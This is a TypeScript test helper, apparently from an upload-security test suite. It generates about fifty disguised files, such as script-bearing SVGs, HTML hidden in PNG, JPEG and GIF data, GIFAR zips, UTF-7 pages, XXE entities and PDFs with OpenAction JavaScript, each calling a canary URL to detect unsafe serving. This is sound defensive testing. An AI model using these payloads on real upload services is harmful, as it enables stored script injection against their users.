import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import { bomb, plain, pngChunk } from './pictures.ts'

export interface HostileFile {
  /** The type that the uploader declares. */
  name: string
  bytes: Buffer
}

/**
 * Files that act when a browser or a plugin treats them as a document of the origin that serves them (T9). They call the
 * canary, with their own name.
 */
export async function hostileFiles(canary: string): Promise<HostileFile[]> {
  const jpeg = await plain().jpeg().toBuffer()
  const png = await plain().png().toBuffer()
  const gif = await plain().gif().toBuffer()
  const webp = await plain().webp().toBuffer()
  const files: HostileFile[] = []

  const add = (name: string, make: (call: Call) => string | Buffer) => {
    const made = make(callFor(`${canary}/${encodeURIComponent(name)}`))
    files.push({ name, bytes: typeof made === 'string' ? Buffer.from(made) : made })
  }

  add('script.svg', ({ svg }) => svg)
  add('onload.svg', ({ js }) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)
  add('picture.png', ({ svg }) => `<?xml version="1.0"?>\n<!DOCTYPE svg>\n${svg}`)
  add('foreign.svg', ({ html }) => {
    return `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${html}</body></foreignObject></svg>`
  })
  add('bom.svg', ({ svg }) => `\ufeff${svg}`)
  add('packed.svgz', ({ svg }) => gzipSync(svg))
  add('wide.svg', ({ svg }) => Buffer.from(`\ufeff${svg}`, 'utf16le'))
  add('use.svg', ({ url }) => {
    return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="${url}#x"/><image href="${url}"/></svg>`
  })

  add('page.png', ({ html }) => html)
  add('page.html', ({ html }) => `<!DOCTYPE html><html><head></head><body>${html}</body></html>`)
  add('comment.gif', ({ html }) => `  \r\n\t<!-- nothing -->${html}`)
  add('wide.html', ({ html }) => Buffer.from(`\ufeff<html>${html}`, 'utf16le'))
  add('onerror.jpg', ({ js }) => `<img src="x:" onerror="${js}">`)
  add('script.jpg', ({ script }) => script)
  add('page.xhtml', ({ js }) => {
    return `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${js}</script></head></html>`
  })
  add('nul.txt', ({ html }) => Buffer.from(`<html>\0${html}\0`))
  add('late.txt', ({ html }) => `${'words '.repeat(100)}${html}`)
  add('utf7.html', ({ html }) => `+ADw-script+AD4-${html}`)
  add('base.mp4', ({ url }) => `<base href="${url}"><link rel="stylesheet" href="style">`)
  add('refresh.webp', ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`)

  add('gifar.gif', ({ script }) => Buffer.concat([gif, zip('evil.html', script)]))
  add('code.gif', ({ js }) => Buffer.from(`GIF89a/*${'\0'.repeat(20)}*/=1;${js}`, 'latin1'))
  add('tail.gif', ({ html }) => Buffer.concat([gif, Buffer.from(html)]))
  add('comment.jpg', ({ html }) => Buffer.concat([jpeg.subarray(0, 2), jpegComment(html), jpeg.subarray(2)]))
  add('text.png', ({ html }) => {
    const text = pngChunk('tEXt', Buffer.from(`Comment\0${html}`, 'latin1'))
    return Buffer.concat([png.subarray(0, 33), text, png.subarray(33)])
  })
  add('tail.png', ({ html }) => Buffer.concat([png, Buffer.from(html)]))
  add('tail.webp', ({ html }) => Buffer.concat([webp, Buffer.from(html)]))
  add('picture.html', ({ html }) => Buffer.concat([jpeg, Buffer.from(html)]))
  add('bomb.png', ({ html }) => Buffer.concat([bomb(3, 3).subarray(0, 40), Buffer.from(html)]))
  add('code.bmp', ({ js }) => Buffer.from(`BM=1/*\0\0\0\0\0\0\0\0*/;${js}`, 'latin1'))
  add('page.ico', ({ html }) => Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]), Buffer.from(html)]))
  add('page.tiff', ({ html }) => Buffer.concat([Buffer.from('II*\0\x08\0\0\0\0\0', 'latin1'), Buffer.from(html)]))
  add('page.avif', ({ html }) => Buffer.concat([box('ftyp', 'avif\0\0\0\0avifmif1'), Buffer.from(html)]))

  add('code.pdf', ({ url }) => pdf(url))
  add('late.pdf', ({ url }) => `${'%'.repeat(500)}\n${pdf(url)}`)
  add('scan.jpg', ({ url }) => pdf(url))

  add('archive.mhtml', ({ html }) => {
    return `From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>${html}</html>`
  })
  add('letter.eml', ({ html }) => `Subject: hi\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`)
  add('styled.xml', ({ js }) => {
    return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${js}</script></html></xsl:template></xsl:stylesheet></x>`
  })
  add('remote.xml', ({ url }) => `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${url}"?><x/>`)
  add('entity.xml', ({ url }) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x>&e;</x>`)
  add('feed.rss', ({ html }) => {
    return `<?xml version="1.0"?><rss><channel><title>${html}</title><x xmlns="http://www.w3.org/1999/xhtml">${html}</x></channel></rss>`
  })
  add('code.js', ({ js }) => js)
  add('data.json', ({ html }) => JSON.stringify({ html }))
  add('app.hta', ({ html }) => `<HTA:APPLICATION>${html}`)
  add('movie.swf', ({ html }) => Buffer.from(`FWS\x06${html}`, 'latin1'))
  add('film.mp4', ({ html }) =>
    Buffer.concat([box('ftyp', 'isom\0\0\0\0isommp42'), box('free', html), box('mdat', html)]),
  )
  add('sound.wav', ({ html }) => riff('WAVE', html))
  add('song.mp3', ({ html }) => Buffer.from(`ID3\x03\0\0\0\0\x01\0${html}`, 'latin1'))
  add('clip.webm', ({ html }) => Buffer.concat([Buffer.from('1a45dfa39f4282847765626d', 'hex'), Buffer.from(html)]))
  add('page.zip', ({ html }) => zip('index.html', html))
  return files
}

interface Call {
  url: string
  /** A script without quotation marks. */
  js: string
  script: string
  html: string
  svg: string
}

function callFor(url: string): Call {
  const js = `new Image().src='${url}'`
  const script = `<script>${js}</script>`
  return {
    url,
    js,
    script,
    html: `${script}<img src="${url}"/><iframe src="${url}"></iframe><link rel="stylesheet" href="${url}"/>`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg">${script}<image href="${url}"/></svg>`,
  }
}

function jpegComment(text: string): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(text.length + 2)
  return Buffer.concat([Buffer.from([0xff, 0xfe]), length, Buffer.from(text)])
}

function box(type: string, content: string): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(content.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, Buffer.from(content, 'latin1')])
}

function riff(type: string, content: string): Buffer {
  const head = Buffer.alloc(8)
  head.write('RIFF', 'latin1')
  head.writeUInt32LE(content.length + 4, 4)
  return Buffer.concat([head, Buffer.from(type, 'latin1'), Buffer.from(content)])
}

/** A zip archive with one file, with the central directory at the end. */
function zip(name: string, text: string): Buffer {
  const packed = deflateRawSync(text)
  const facts = Buffer.alloc(22)
  facts.writeUInt16LE(8, 4)
  facts.writeUInt32LE(crc32(text), 10)
  facts.writeUInt32LE(packed.length, 14)
  facts.writeUInt32LE(text.length, 18)
  const names = Buffer.alloc(4)
  names.writeUInt16LE(name.length)
  const local = Buffer.concat([
    Buffer.from('PK\x03\x04\x14\0', 'latin1'),
    facts.subarray(2),
    names,
    Buffer.from(name),
    packed,
  ])
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\0\x14\0', 'latin1'),
    facts.subarray(2),
    names,
    Buffer.alloc(14),
    Buffer.from(name),
  ])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}

function pdf(url: string): string {
  return `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${url}'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(${url})>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
}
